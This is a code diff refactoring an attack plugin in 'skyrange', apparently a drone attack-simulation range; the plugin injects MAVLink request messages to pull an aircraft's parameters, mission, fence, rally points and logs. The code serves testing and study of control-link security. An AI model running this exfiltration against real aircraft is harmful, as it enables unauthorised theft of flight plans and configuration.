@@ -6,81 +6,64 @@ from typing import Annotated, Final, Literal
 
 from pydantic import BeforeValidator, Field
 
-from skyrange.attack.bases.mavlink.injection import Injection
-from skyrange.attack.bases.mavlink.orders import AUTOPILOT
-from skyrange.attack.contract import Controls
-from skyrange.attack.declaration import attack
-from skyrange.attack.presets import CONTROL_LINKS, on_control_link
+import skyrange.plugin as sky
 from skyrange.attack.tapped_links import LEARNED
-from skyrange.codec.mavlink import Message
 from skyrange.codec.mavlink import dialect as mav
-from skyrange.contracts.frames.frame import Frame
-from skyrange.contracts.mailboxes import Note
-from skyrange.contracts.params import Number, items
-from skyrange.contracts.plugins.fields import param, state
 from skyrange.contracts.scalars import Scalar
-from skyrange.contracts.verdicts import Verdicts
-from skyrange.core.time import NS_PER_MS, Time
 
 Subject = Literal["parameters", "mission", "fence", "rally", "logs"]
 _TYPES: Final = {
     "mission": mav.MAV_MISSION_TYPE_MISSION, "fence": mav.MAV_MISSION_TYPE_FENCE, "rally": mav.MAV_MISSION_TYPE_RALLY
 }  # fmt: skip
 _SUBJECTS: Final = {number: name for name, number in _TYPES.items()}
-_ANSWER_NS: Final = NS_PER_MS
+_ANSWER_NS: Final = sky.NS_PER_MS
 
 
-@attack(
+@sky.attack(
     "mavlink.exfiltrate",
     technique="T0802",
     counterfactual="mute",
-    surface=CONTROL_LINKS,
     persists="acts",
     effect="the attacker learns parameters and mission, and the answers load the link",
-    threat=on_control_link(
-        "system ids, from any frame",
-        position="on the network of the control link, where answers can be heard",
-        budget="one frame for a list of parameters or logs, one for each item of a mission",
-    ),
-    controls=Controls(
-        load="none, because the answers are the load; the sham has the same requests without answers",
-        content="none, because requests have no content",
-        placement="the same requests to another aircraft",
-    ),
+    position="on the network of the control link, where answers can be heard",
+    budget="one frame for a list of parameters or logs, one for each item of a mission",
+    load="none, because the answers are the load; the sham has the same requests without answers",
+    content="none, because requests have no content",
+    placement="the same requests to another aircraft",
 )
-class Exfiltration(Injection):
+class Exfiltration(sky.Injection):
     """Requests parameters, mission and logs of the aircraft and reads the answers."""
 
     reads = ("PARAM_VALUE", "MISSION_COUNT", "MISSION_ITEM_INT", "LOG_ENTRY")
 
     what: Annotated[
-        tuple[Subject, ...], BeforeValidator(items, json_schema_input_type=list[str]), Field(min_length=1)
-    ] = param(
+        tuple[Subject, ...], BeforeValidator(sky.items, json_schema_input_type=list[str]), Field(min_length=1)
+    ] = sky.param(
         "What to request, in order, of parameters, mission, fence, rally and logs.",
         default=("parameters", "mission", "logs"),
     )
-    every_s: Number = param("Time between two rounds, in seconds.", default=10.0, ge=1, le=3600)
-    learnt: dict[str, dict[str, tuple[float, ...]]] = state(dict)
+    every_s: sky.Number = sky.param("Time between two rounds, in seconds.", default=10.0, ge=1, le=3600)
+    learnt: dict[str, dict[str, tuple[float, ...]]] = sky.state(dict)
     """By subject: values by parameter; command and place of items by number; size of logs by number."""
-    news: list[dict[str, Scalar]] = state(list)
+    news: list[dict[str, Scalar]] = sky.state(list)
     """What was learnt from the frame that is being read."""
-    queue: list[Message] = state(list)
+    queue: list[sky.MavlinkMessage] = sky.state(list)
     """Requests of items that are to be sent."""
-    counts: dict[int, int] = state(dict)
+    counts: dict[int, int] = sky.state(dict)
     """Number of items by type of mission."""
-    asked: dict[int, int] = state(dict)
+    asked: dict[int, int] = sky.state(dict)
     """The item that was requested last, by type of mission."""
-    answer_ns: Time | None = None
+    answer_ns: sky.Time | None = None
 
-    def on_frame(self, now: Time, frame: Frame) -> Verdicts:
+    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
         """Keep what is told; notes what is new."""
         super().on_frame(now, frame)
         if not self.news:
             return ()
         found, self.news = self.news, []
-        return [Note(LEARNED, frame.link.partition(":")[2], data, (frame.id,)) for data in found]
+        return [sky.Note(LEARNED, frame.link.partition(":")[2], data, (frame.id,)) for data in found]
 
-    def on_message(self, now: Time, message: Message) -> None:
+    def on_message(self, now: sky.Time, message: sky.MavlinkMessage) -> None:
         """Keep what an answer tells, and request the next item."""
         name = type(message).msgname
         if now < self.schedule.start_ns:
@@ -100,20 +83,17 @@ class Exfiltration(Injection):
                 if message.seq == self.asked.get(kind):
                     self._request(now, kind, message.seq + 1)
 
-    def next_wakeup(self) -> Time | None:
-        """When it next sends."""
+    def next_wakeup(self) -> sky.Time | None:
         times = [time for time in (self.clock.due, self.answer_ns) if time is not None]
         return min(times) if times else None
 
-    def on_wakeup(self, now: Time) -> Verdicts:
-        """The requests that are due."""
+    def on_wakeup(self, now: sky.Time) -> sky.Verdicts:
         if self.answer_ns is not None and now >= self.answer_ns:
             self.answer_ns = None
         requests, self.queue = self.queue, []
         return [*(self.inject(self.pack(one)) for one in requests), *super().on_wakeup(now)]
 
-    def orders(self, now: Time) -> list[Message]:
-        """The first request of each subject."""
+    def orders(self, now: sky.Time) -> list[sky.MavlinkMessage]:
         return [self._first_request(subject) for subject in self.what]
 
     def _learn(self, subject: str, name: str, values: tuple[float, ...]) -> None:
@@ -122,15 +102,15 @@ class Exfiltration(Injection):
             known[name] = values
             self.news.append({"what": subject, "name": name, "value": ", ".join(f"{value:g}" for value in values)})
 
-    def _request(self, now: Time, kind: int, seq: int) -> None:
+    def _request(self, now: sky.Time, kind: int, seq: int) -> None:
         if seq < self.counts.get(kind, 0) and _SUBJECTS[kind] in self.what:
             self.asked[kind] = seq
-            self.queue.append(mav.MAVLink_mission_request_int_message(self.target, AUTOPILOT, seq, kind))
+            self.queue.append(mav.MAVLink_mission_request_int_message(self.target, sky.AUTOPILOT, seq, kind))
             self.answer_ns = now + _ANSWER_NS
 
-    def _first_request(self, subject: Subject) -> Message:
+    def _first_request(self, subject: Subject) -> sky.MavlinkMessage:
         if subject == "parameters":
-            return mav.MAVLink_param_request_list_message(self.target, AUTOPILOT)
+            return mav.MAVLink_param_request_list_message(self.target, sky.AUTOPILOT)
         if subject == "logs":
-            return mav.MAVLink_log_request_list_message(self.target, AUTOPILOT, 0, 0xFFFF)
-        return mav.MAVLink_mission_request_list_message(self.target, AUTOPILOT, _TYPES[subject])
+            return mav.MAVLink_log_request_list_message(self.target, sky.AUTOPILOT, 0, 0xFFFF)
+        return mav.MAVLink_mission_request_list_message(self.target, sky.AUTOPILOT, _TYPES[subject])
